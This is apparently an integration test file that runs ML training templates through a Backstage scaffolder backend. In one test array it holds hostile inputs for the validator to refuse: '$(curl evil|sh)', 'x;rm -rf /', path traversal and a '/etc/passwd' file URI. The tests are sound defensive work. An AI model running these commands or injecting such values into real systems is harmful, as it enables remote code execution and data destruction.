// Runs both training templates through the real scaffolder of the real backend: dry-runs that
// check the produced files, hostile inputs refused with the field named, and one real task with
// local publish that ends with the entity in the catalog.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import yaml from 'yaml';
import { startBackend } from './backendProcess.mjs';
import { backstageClient, eventually, filesOf } from './backstageClient.mjs';

let backend;
let token;
let publishRoot;

const { api, dryRun } = backstageClient(() => ({
  baseUrl: backend?.baseUrl,
  token,
}));

const pytorchValues = {
  name: 'smoke-ddp',
  owner: 'group:default/ml-platform-team',
  namespace: 'ml-training',
  operator: 'pytorchjob',
  nodes: 8,
  gpusPerNode: 8,
  datasetUri: 's3://datasets/imagenet/',
  ncclIb: false,
  ncclSocketIfname: 'eth0',
  publishTarget: 'local',
};

const rayValues = {
  name: 'smoke-ray',
  owner: 'group:default/ml-platform-team',
  mode: 'rayjob',
  workers: 2,
  gpusPerWorker: 1,
  autoscaling: true,
  maxWorkers: 4,
  publishTarget: 'local',
};

describe('training templates in the real scaffolder', () => {
  before(async () => {
    publishRoot = await fs.mkdtemp(
      path.join(os.tmpdir(), 'mlops-smoke-repos-'),
    );
    process.env.APP_CONFIG_mlops_scaffolder_localPublish_root = publishRoot;
    backend = await startBackend();
    token = (await api('/api/auth/guest/refresh', { method: 'POST' })).body
      .backstageIdentity.token;
  });
  after(async () => {
    await backend?.stop();
    delete process.env.APP_CONFIG_mlops_scaffolder_localPublish_root;
    await fs.rm(publishRoot, { recursive: true, force: true });
  });

  it('shows both templates on the Create page', async () => {
    await eventually('templates in the catalog', async () => {
      const { body } = await api(
        '/api/catalog/entities/by-query?filter=kind=template',
      );
      const names = body.items.map(e => e.metadata.name);
      assert.ok(
        names.includes('pytorch-distributed-training'),
        names.join(','),
      );
      assert.ok(names.includes('ray-training'), names.join(','));
    });
  });

  it('dry-runs the PyTorch template into an 8-node ring', async () => {
    const { status, body } = await dryRun(
      'pytorch-distributed-training',
      pytorchValues,
    );
    assert.equal(status, 200, JSON.stringify(body).slice(0, 2000));
    const files = filesOf(body);
    assert.deepEqual(Object.keys(files).sort(), [
      '.dockerignore',
      'Dockerfile',
      'README.md',
      'catalog-info.yaml',
      'deploy/code.yaml',
      'deploy/pytorchjob.yaml',
      'requirements.txt',
      'train.py',
    ]);
    const job = yaml.parse(files['deploy/pytorchjob.yaml']);
    assert.equal(job.spec.pytorchReplicaSpecs.Worker.replicas, 7);
    assert.equal(job.spec.nprocPerNode, '8');
    const env =
      job.spec.pytorchReplicaSpecs.Master.template.spec.containers[0].env;
    assert.ok(env.some(e => e.name === 'NCCL_IB_DISABLE' && e.value === '1'));
    const entity = yaml.parse(files['catalog-info.yaml']);
    assert.equal(entity.metadata.annotations['mlops/manifests'], './deploy');
    assert.equal(entity.spec.owner, 'group:default/ml-platform-team');
    assert.match(JSON.stringify(body.output), /PyTorchJob/);
  });

  it('dry-runs the PyTorch template as a Trainer v2 TrainJob', async () => {
    const { status, body } = await dryRun('pytorch-distributed-training', {
      ...pytorchValues,
      operator: 'trainjob',
      modelUri: 'hf://meta-llama/Llama-3.2-1B',
    });
    assert.equal(status, 200, JSON.stringify(body).slice(0, 2000));
    const job = yaml.parse(filesOf(body)['deploy/trainjob.yaml']);
    assert.equal(job.spec.trainer.numNodes, 8);
    assert.equal(job.spec.runtimeRef.name, 'torch-distributed');
  });

  it('dry-runs the Ray template into an autoscaled RayJob', async () => {
    const { status, body } = await dryRun('ray-training', rayValues);
    assert.equal(status, 200, JSON.stringify(body).slice(0, 2000));
    const files = filesOf(body);
    const job = yaml.parse(files['deploy/rayjob.yaml']);
    assert.equal(job.spec.rayClusterSpec.enableInTreeAutoscaling, true);
    assert.equal(job.spec.rayClusterSpec.workerGroupSpecs[0].maxReplicas, 4);
    assert.ok(files['train_ray.py'].includes('TorchTrainer'));
  });

  const hostile = [
    ['a name with ../', { name: '../../etc' }, /name/],
    ['an upper-case name', { name: 'ResNet' }, /name/],
    ['a 300-character name', { name: 'a'.repeat(300) }, /name/],
    ['a negative GPU count', { gpusPerNode: -1 }, /gpusPerNode/],
    ['a huge GPU count', { gpusPerNode: 100000 }, /gpusPerNode/],
    [
      'shell in the description',
      { description: '$(curl evil|sh)' },
      /description: must be plain text/,
    ],
    [
      'YAML in the description',
      { description: 'x\nkind: Secret' },
      /description: must be plain text/,
    ],
    [
      'shell in the image',
      { image: 'x;rm -rf /' },
      /image: must be a container image reference/,
    ],
    [
      'a non-S3 dataset',
      { datasetUri: 'file:///etc/passwd' },
      /datasetUri: must be an S3 URI/,
    ],
  ];
  for (const [what, patch, reason] of hostile) {
    it(`refuses ${what} and produces no files`, async () => {
      const { status, body } = await dryRun('pytorch-distributed-training', {
        ...pytorchValues,
        ...patch,
      });
      const text = JSON.stringify(body);
      assert.ok(status >= 400 || /error/i.test(text), text.slice(0, 1000));
      assert.match(text, reason);
      assert.equal(
        Object.keys(filesOf(body)).filter(p => p.startsWith('deploy/')).length,
        0,
      );
    });
  }

  it('runs a real task with local publish and registers the entity', async () => {
    const name = `smoke-ray-${process.pid}`;
    const { status, body } = await api('/api/scaffolder/v2/tasks', {
      method: 'POST',
      body: JSON.stringify({
        templateRef: 'template:default/ray-training',
        values: { ...rayValues, name },
      }),
    });
    assert.equal(status, 201, JSON.stringify(body));
    const task = await eventually('the task to finish', async () => {
      const res = await api(`/api/scaffolder/v2/tasks/${body.id}`);
      assert.ok(
        ['completed', 'failed'].includes(res.body.status),
        res.body.status,
      );
      return res.body;
    });
    if (task.status !== 'completed') {
      const log = await api(`/api/scaffolder/v2/tasks/${body.id}/events`);
      assert.fail(JSON.stringify(log.body).slice(-3000));
    }
    const repo = path.join(publishRoot, name);
    const commit = execFileSync('git', ['log', '--format=%an|%s'], {
      cwd: repo,
      encoding: 'utf8',
    });
    assert.match(commit, /Initial commit from Backstage/);
    const entity = await eventually('the entity in the catalog', async () => {
      const res = await api(
        `/api/catalog/entities/by-name/component/default/${name}`,
      );
      assert.equal(res.status, 200);
      return res.body;
    });
    assert.equal(entity.metadata.annotations['mlops/workload'], 'training');
    assert.equal(entity.metadata.annotations['mlops/manifests'], './deploy');
    assert.equal(entity.spec.type, 'training-job');
  });
});
